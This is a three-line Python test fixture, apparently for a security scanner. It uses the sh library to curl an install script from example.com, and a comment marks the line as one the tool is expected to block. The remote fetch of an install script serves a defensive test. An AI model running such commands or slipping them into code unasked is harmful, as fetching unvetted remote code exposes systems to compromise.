# expect: block SG214@3
import sh
sh.curl("https://example.com/install.sh")
